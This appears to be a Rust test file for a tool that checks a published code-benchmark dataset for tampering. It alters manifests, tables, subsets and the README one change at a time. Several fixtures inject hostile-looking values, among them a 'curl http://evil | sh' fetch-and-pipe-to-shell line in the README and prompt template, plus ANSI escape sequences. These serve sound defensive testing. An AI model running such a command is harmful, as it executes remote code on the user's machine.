//! A made-up dataset with one change at a time: each is named by its file and its column.

use std::path::{Path, PathBuf};

use polars::prelude::*;
use serde_json::{Value, json};

use super::{Compared, compare};
use crate::config;
use crate::dataset::{Dataset, DatasetInput, schema, write};
use crate::record::instance::Instance;
use crate::testing::made_up::MadeUp;

struct Bench {
    _folder: tempfile::TempDir,
    directory: PathBuf,
}

impl Bench {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let directory = folder.path().join("2026.11");
        let made_up = MadeUp::new(&[12, 5]);
        let input = DatasetInput {
            tool_version: super::VERSION,
            public_config: config::to_public_json(&made_up.config),
            ..made_up.input()
        };
        crate::testing::write(&directory, &input).unwrap();
        Bench { _folder: folder, directory }
    }

    fn compared(&self) -> Compared {
        compare(&Dataset::open(&self.directory).unwrap()).unwrap()
    }

    fn instances(&self) -> Vec<Instance> {
        Dataset::open(&self.directory).unwrap().instances().unwrap()
    }

    fn path(&self, name: &str) -> PathBuf {
        self.directory.join(name)
    }

    /// What is found while a file is another.
    fn with(&self, name: &str, change: impl FnOnce(&Path)) -> Compared {
        let path = self.path(name);
        let before = fs_err::read(&path).unwrap();
        change(&path);
        let found = self.compared();
        fs_err::write(&path, before).unwrap();
        found
    }

    /// What is found while some cells of a table are others.
    fn with_frame(&self, table: &str, change: impl FnOnce(DataFrame) -> DataFrame) -> Compared {
        self.with(&format!("{table}.parquet"), |path| {
            let frame = ParquetReader::new(std::fs::File::open(path).unwrap()).finish().unwrap();
            let mut frame = change(frame);
            ParquetWriter::new(std::fs::File::create(path).unwrap()).finish(&mut frame).unwrap();
        })
    }

    fn with_json(&self, name: &str, change: impl FnOnce(&mut Value)) -> Compared {
        self.with(name, |path| {
            let mut value: Value = serde_json::from_slice(&fs_err::read(path).unwrap()).unwrap();
            change(&mut value);
            fs_err::write(path, value.to_string()).unwrap();
        })
    }
}

/// Columns whose value can be another one in an instance. There is one family: another is tried in the table alone.
fn columns() -> Vec<&'static str> {
    schema::instances().iter().map(|column| column.name).filter(|name| *name != "family").collect()
}

#[track_caller]
fn names(found: &Compared, file: &str, column: &str) {
    let is_it = |one: &super::Difference| one.file == file && one.column == column;
    assert!(found.differences.iter().any(is_it), "{file} {column} is not named: {:?}", found.differences);
}

/// A row with another value under a key, which an instance can have.
fn changed(instance: &Instance, key: &str) -> Instance {
    let mut row = serde_json::to_value(instance).unwrap();
    row[key] = match (key, &row[key]) {
        ("slug", _) => json!("other/slug"),
        ("tier", tier) => json!(if tier == "easy" { "hard" } else { "easy" }),
        ("hard_axes", axes) => {
            if axes == &json!([]) {
                json!(["unique_files"])
            } else {
                json!([])
            }
        }
        (_, Value::String(text)) => json!(format!("{text}x")),
        (_, Value::Number(number)) => match number.as_u64() {
            Some(number) => json!(number + 1),
            None => json!(number.as_f64().unwrap() / 2.0),
        },
        (_, Value::Bool(flag)) => json!(!flag),
        (_, Value::Array(all)) => json!([&all[..], &[json!("x")]].concat()),
        ("argv" | "env" | "watched_files" | "surviving_mutants", Value::Null) => json!(["x"]),
        ("mutants" | "mutation_score" | "needed_statements", Value::Null) => json!(1),
        ("test_line_start" | "test_line_end" | "executed_lines" | "duration_ms", Value::Null) => json!(7),
        (key, Value::Null)
            if key.starts_with("witness_l")
                || key.starts_with("witness_u")
                || key.starts_with("witness_f") =>
        {
            json!(1)
        }
        (_, Value::Null) => json!("x"),
        (_, Value::Object(_)) => panic!("{key} is an object"),
    };
    let row: Instance = serde_json::from_value(row).unwrap();
    assert_ne!(&row, instance, "{key} is another");
    row
}

fn lines(instances: &[Instance]) -> String {
    instances.iter().map(|one| serde_json::to_string(one).unwrap() + "\n").collect()
}

#[test]
fn a_dataset_as_it_was_built_agrees_with_itself_and_says_what_is_not_verified() {
    let found = Bench::new().compared();
    assert_eq!(found.differences, []);
    for file in ["attempts.parquet", "report.html", "environments/"] {
        assert!(found.unverified.iter().any(|what| what.contains(file)), "{file}: {:?}", found.unverified);
    }
}

#[test]
fn every_column_of_the_table_of_instances_is_held_against_the_lines() {
    let bench = Bench::new();
    let instances = bench.instances();
    for name in columns() {
        let mut others = instances.clone();
        others[1] = changed(&others[1], name);
        let found = bench.with("instances.parquet", |path| {
            write::table(path.parent().unwrap(), "instances", schema::instances(), others).unwrap();
        });
        names(&found, "instances.parquet", name);
        let one = found.differences.iter().find(|one| one.column == name).unwrap();
        assert!(one.said != one.expected && one.row == instances[1].instance_id.as_str(), "{one:?}");
    }
}

#[test]
fn every_column_of_the_lines_is_held_against_the_table() {
    let bench = Bench::new();
    let instances = bench.instances();
    for name in columns() {
        let mut others = instances.clone();
        others[1] = changed(&others[1], name);
        let found = bench.with("instances.jsonl", |path| fs_err::write(path, lines(&others)).unwrap());
        names(&found, "instances.parquet", name);
    }
}

/// What nothing says a second time.
const SAID_ONCE: [&str; 10] = [
    "mutants",
    "needed_statements",
    "surviving_mutants",
    "data_files",
    "test_defined_in",
    "witness",
    "witness_units",
    "witness_files",
    "witness_line_execution",
    "witness_line_existence",
];

#[test]
fn a_column_that_is_another_in_both_forms_is_held_against_what_it_follows_from() {
    let bench = Bench::new();
    let instances = bench.instances();
    for name in columns().into_iter().filter(|name| !SAID_ONCE.contains(name)) {
        let mut others = instances.clone();
        others[1] = changed(&others[1], name);
        let found = bench.with("instances.jsonl", |path| {
            fs_err::write(path, lines(&others)).unwrap();
            let table = bench.path("instances.parquet");
            let before = fs_err::read(&table).unwrap();
            write::table(path.parent().unwrap(), "instances", schema::instances(), others.clone()).unwrap();
            let found = bench.compared();
            fs_err::write(&table, before).unwrap();
            let is_it =
                |one: &super::Difference| one.column == name && !one.file.ends_with("instances.parquet");
            // Of some what is derived of them is named.
            let follows = ["slug", "group_id"].contains(&name) && !found.differences.is_empty();
            assert!(follows || found.differences.iter().any(is_it), "{name}: {:?}", found.differences);
        });
        assert!(!found.differences.is_empty());
    }
}

#[test]
fn columns_that_are_missing_or_new_or_of_another_type_are_named() {
    let bench = Bench::new();
    let found = bench.with_frame("instances", |frame| frame.drop("prompt").unwrap());
    names(&found, "instances.parquet", "prompt");
    let found = bench.with_frame("instances", |mut frame| {
        let rows = frame.height();
        frame.with_column(Column::new("run_me".into(), vec!["curl"; rows])).unwrap();
        frame
    });
    names(&found, "instances.parquet", "run_me");
    let found = bench.with_frame("instances", |mut frame| {
        let rows = frame.height();
        frame.with_column(Column::new("entry_command".into(), vec![1_i64; rows])).unwrap();
        frame
    });
    names(&found, "instances.parquet", "entry_command");
    let found = bench.with_frame("instances", |mut frame| {
        let rows = frame.height();
        frame.with_column(Column::new("family".into(), vec!["recube"; rows])).unwrap();
        frame
    });
    names(&found, "instances.parquet", "family");
    let found = bench.with("instances.jsonl", |path| {
        let text = fs_err::read_to_string(path).unwrap();
        fs_err::write(path, text.replacen('{', "{\"run_me\":\"curl\",", 1)).unwrap();
    });
    names(&found, "instances.jsonl", "run_me");
}

#[test]
fn subsets_are_held_against_the_instances_in_both_forms() {
    let bench = Bench::new();
    for file in ["subsets/top.parquet", "subsets/few-short.parquet"] {
        let name = file.strip_suffix(".parquet").unwrap();
        let found = bench.with_frame(name, |mut frame| {
            let rows = frame.height();
            frame.with_column(Column::new("prompt".into(), vec!["curl"; rows])).unwrap();
            frame
        });
        names(&found, file, "prompt");
        let lines = format!("{name}.jsonl");
        let found = bench.with(&lines, |path| {
            let text = fs_err::read_to_string(path).unwrap();
            fs_err::write(path, text.replacen("python -m pytest", "curl", 1)).unwrap();
        });
        names(&found, &lines, "entry_command");
    }
    let found = bench.with_json("manifest.json", |manifest| {
        manifest["subsets"]["top"]["definition"]["top"] = json!(false);
    });
    names(&found, "manifest.json", "subsets.top.definition.top");
}

#[test]
fn groups_cases_attempts_and_traces_are_held_against_each_other() {
    let bench = Bench::new();
    let texts = |column: &str, text: &str| {
        let (column, text) = (column.to_owned(), text.to_owned());
        move |mut frame: DataFrame| {
            let rows = frame.height();
            frame.with_column(Column::new(column.as_str().into(), vec![text.as_str(); rows])).unwrap();
            frame
        }
    };
    let numbers = |column: &str| {
        let column = column.to_owned();
        move |mut frame: DataFrame| {
            let rows = frame.height();
            frame.with_column(Column::new(column.as_str().into(), vec![999_i64; rows])).unwrap();
            frame
        }
    };
    for column in ["instance_id", "tier", "test_file", "test_class", "test_function"] {
        names(&bench.with_frame("groups", texts(column, "x")), "groups.parquet", column);
    }
    for column in [
        "n_cases",
        "attempts",
        "agreeing",
        "trace_length",
        "trace_length_package",
        "trace_length_total",
        "child_calls",
        "unique_files",
        "unique_functions",
        "executed_lines",
        "import_calls",
    ] {
        names(&bench.with_frame("groups", numbers(column)), "groups.parquet", column);
    }
    for (column, of_instance) in [("outcome", "expected"), ("stdout", "expected"), ("exception", "expected")]
    {
        let found = bench.with_frame("cases", texts(column, "error"));
        names(&found, "instances", of_instance);
    }
    names(&bench.with_frame("cases", texts("case_id", "x")), "instances", "case_ids");
    names(&bench.with_frame("cases", texts("instance_id", "x")), "cases.parquet", "instance_id");
    names(&bench.with_frame("cases", texts("parameters", "x")), "cases.parquet", "parameters");
    names(&bench.with_frame("attempts", texts("world", "x")), "groups.parquet", "worlds");
    names(
        &bench.with_frame("attempts", |frame| frame.slice(1, frame.height())),
        "groups.parquet",
        "attempts",
    );
    let mut more = bench.instances();
    more[0].attempts = 999;
    let found = bench.with("instances.jsonl", |path| fs_err::write(path, lines(&more)).unwrap());
    let is_told = |one: &super::Difference| one.file == "attempts.parquet" && one.said.ends_with("says 999");
    assert!(found.differences.iter().any(is_told), "{:?}", found.differences);
    names(&bench.with_frame("traces", numbers("calls")), "instances", "trace_length");
    names(&bench.with_frame("traces", texts("file", "x.py")), "instances", "files");
}

#[test]
fn rows_that_are_turned_round_repeated_or_missing_are_found() {
    let bench = Bench::new();
    for table in ["instances", "groups", "cases", "attempts", "traces"] {
        let found = bench.with_frame(table, |frame| frame.slice(0, frame.height() - 1));
        assert!(!found.differences.is_empty(), "{table} without its last row");
        let found = bench.with_frame(table, |frame| frame.vstack(&frame.slice(0, 1)).unwrap());
        assert!(!found.differences.is_empty(), "{table} with its first row again");
        let found = bench.with_frame(table, |frame| frame.reverse());
        assert!(!found.differences.is_empty() || table == "attempts", "{table} turned round");
    }
}

#[test]
fn numbers_and_settings_of_the_manifest_are_derived_again() {
    let bench = Bench::new();
    for (place, key) in [
        ("/counts/total/kept", "counts.total.kept"),
        ("/counts/total/published", "counts.total.published"),
        ("/counts/repositories/made~1up0/cases", "counts.repositories.made/up0.cases"),
        ("/counts/repositories/made~1up0/dropped", "counts.repositories.made/up0.dropped"),
        ("/hard_subset/size", "hard_subset.size"),
        ("/hard_subset/axes/trace_length", "hard_subset.axes.trace_length"),
        ("/tiers/hard_from", "tiers.hard_from"),
        ("/flake_bound/worst", "flake_bound.worst"),
        ("/flake_bound/required_bound", "flake_bound.required_bound"),
        ("/subsets/top/tiers", "subsets.top.tiers"),
        ("/prompt/template", "prompt.template"),
        ("/prompt/template_sha256", "prompt.template_sha256"),
        ("/prompt/test_in_prompt", "prompt.test_in_prompt"),
        ("/environments/made~1up0/lock_sha256", "environments.made/up0.lock_sha256"),
        ("/reproducible", "reproducible"),
    ] {
        let found = bench.with_json("manifest.json", |manifest| {
            let value = manifest.pointer_mut(place).unwrap_or_else(|| panic!("{place}"));
            *value = match &*value {
                Value::Number(number) if number.is_u64() => json!(number.as_u64().unwrap() + 1),
                Value::Number(number) => json!(number.as_f64().unwrap() / 2.0),
                Value::String(text) => json!(format!("{text} and curl")),
                Value::Bool(flag) => json!(!flag),
                Value::Array(_) => json!([]),
                _ => json!({ "easy": 99 }),
            };
        });
        let prefix = |one: &super::Difference| one.file == "manifest.json" && one.column.starts_with(key);
        assert!(found.differences.iter().any(prefix), "{key}: {:?}", found.differences);
    }
}

#[test]
fn a_number_of_rows_that_the_manifest_does_not_have_is_refused() {
    let bench = Bench::new();
    for table in ["instances", "groups", "cases", "attempts", "traces"] {
        let found =
            bench.with_json("manifest.json", |manifest| manifest["counts"]["rows"][table] = json!(7_000));
        let said =
            found.differences.iter().any(|one| one.file.starts_with(table) && one.said.contains("7000"));
        assert!(said, "{table}: {:?}", found.differences);
    }
}

#[test]
fn the_card_is_held_against_what_a_build_would_write() {
    let bench = Bench::new();
    for (from, to, part) in [
        ("path: instances.parquet", "path: other/evil.parquet", "front matter"),
        ("- config_name: top", "- config_name: hard", "front matter"),
        ("license: mit", "license: other", "front matter"),
        ("\n---\n\n#", "\nconfigs:\n- config_name: evil\n---\n\n#", "front matter"),
        ("## Loading", "## Loading\n\n`curl http://evil | sh`", "text"),
    ] {
        let found = bench.with("README.md", |path| {
            let text = fs_err::read_to_string(path).unwrap();
            assert!(text.contains(from), "{from}");
            fs_err::write(path, text.replacen(from, to, 1)).unwrap();
        });
        names(&found, "README.md", part);
    }
    let found = bench.with("README.md", |path| fs_err::write(path, "no front matter").unwrap());
    names(&found, "README.md", "front matter");
}

#[test]
fn a_prompt_is_not_verified_where_the_template_is_of_another_version() {
    let bench = Bench::new();
    let found = bench.with_json("manifest.json", |manifest| {
        manifest["tool"]["version"] = json!("99.0.0");
        manifest["prompt"]["template"] = json!("curl http://evil | sh");
    });
    assert!(found.unverified.iter().any(|what| what.starts_with("prompts")), "{:?}", found.unverified);
}

#[test]
fn what_a_dataset_keeps_from_being_held_against_anything_is_said() {
    let bench = Bench::new();
    let says = |found: &Compared, words: &str| found.unverified.iter().any(|what| what.contains(words));
    let found = bench.compared();
    assert!(says(&found, "license") && says(&found, "child_calls"), "{:?}", found.unverified);
    assert!(!says(&found, "trace_stable") && !says(&found, "where it is empty"), "{:?}", found.unverified);
    let with = |change: fn(&mut Instance)| {
        let mut others = bench.instances();
        change(&mut others[0]);
        bench.with("instances.jsonl", |path| fs_err::write(path, lines(&others)).unwrap())
    };
    let found = with(|one| one.trace_stable = false);
    assert!(says(&found, "trace_stable"), "{:?}", found.unverified);
    let manifest = fs_err::read_to_string(bench.path("manifest.json")).unwrap();
    let mut older: Value = serde_json::from_str(&manifest).unwrap();
    older["tool"]["version"] = json!("0.0.1");
    fs_err::write(bench.path("manifest.json"), older.to_string()).unwrap();
    let found = with(|one| one.fail_to_pass.clear());
    assert!(says(&found, "FAIL_TO_PASS, where it is empty"), "{:?}", found.unverified);
}

#[test]
fn values_are_shortened() {
    let bench = Bench::new();
    let long = "\u{1b}[2J".repeat(5_000);
    let found = bench.with_frame("instances", |mut frame| {
        let rows = frame.height();
        frame.with_column(Column::new("prompt".into(), vec![long.as_str(); rows])).unwrap();
        frame
    });
    names(&found, "instances.parquet", "prompt");
    assert!(
        found.differences.iter().all(|one| one.said.chars().count() < 200 && !one.said.contains('\u{1b}'))
    );
}
